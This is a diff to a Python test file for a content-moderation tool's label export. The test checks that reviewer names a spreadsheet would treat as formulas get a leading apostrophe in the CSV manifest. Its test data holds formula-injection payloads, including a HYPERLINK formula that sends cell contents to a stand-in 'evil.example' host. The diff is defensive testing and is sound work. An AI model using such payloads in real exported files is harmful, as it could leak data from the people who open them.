@@ -22,7 +22,7 @@ from contentguard.schemas import ModerationResult
 from contentguard.store import appeals, decisions, review
 from contentguard.store.db import Database
 from contentguard.store.decisions import Requester, Retention
-from contentguard.store.tables import StoredMedia
+from contentguard.store.tables import StoredMedia, User
 
 CLI = Path(sys.executable).parent / "contentguard"
 KEEP = Retention(media_days=1)
@@ -181,3 +181,42 @@ def test_export_errors_are_clear(tmp_path: Path) -> None:
     assert done.exit_code == 2 and "manifest.jsonl:1" in done.stderr
     done = export("--out", str(tmp_path / "o"), "--since", "yesterday", "--database-url", ready.url)
     assert done.exit_code == 2 and "yesterday" in done.stderr
+
+
+FORMULA_NAMES = ["-1-1", "@A1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "\tname"]
+
+
+def test_reviewer_names_in_the_csv_manifest_open_as_text_in_a_spreadsheet(
+        db: Database, shared_text_moderator, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """Reviewers whose names a spreadsheet would evaluate (`-1-1`, `@A1` pass the username rule;
+    the others are refused by it, so they are written to the users table as an older version or
+    a direct import could have) each decide one text; their cells get a leading `'`."""
+    allowed = {name: make_user(db, name) for name in FORMULA_NAMES[:2]}
+    with db.session() as session:
+        for name in FORMULA_NAMES[2:]:
+            user = User(username=name, password_hash="-", role="moderator", active=True)
+            session.add(user)
+            session.flush()
+            allowed[name] = user.id
+    texts = [(f"t{i}", f"review me please, item {i}") for i in range(len(FORMULA_NAMES))]
+    r = Reviewed(db)
+    for (_, text), result in zip(texts, shared_text_moderator.moderate_many(texts), strict=True):
+        r.store(result, text=text)
+    for name in FORMULA_NAMES:
+        with db.session() as session:
+            reviewer = review.Reviewer(allowed[name], f"user:{name}")
+            item = review.claim_next(session, reviewer, 60)
+            assert item is not None
+            review.decide(session, item.id, reviewer, "approve", "no_violation", "")
+
+    out = tmp_path / "labels"
+    done = run(tmp_path, "--out", str(out), "--database-url", db.url)
+    assert done.returncode == 0, done.stderr
+    with (out / "manifest.csv").open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert sorted(row["reviewer"] for row in rows) == sorted("'" + name for name in FORMULA_NAMES)
+    assert "'-1-1" in {row["reviewer"] for row in rows}
+    raw = (out / "manifest.csv").read_text(encoding="utf-8")
+    assert all(line.startswith('"') for line in raw.splitlines() if line)  # every cell quoted
+    # The JSON manifest (the training input) keeps the names exactly.
+    assert sorted(row["reviewer"] for row in manifest(out)) == sorted(FORMULA_NAMES)
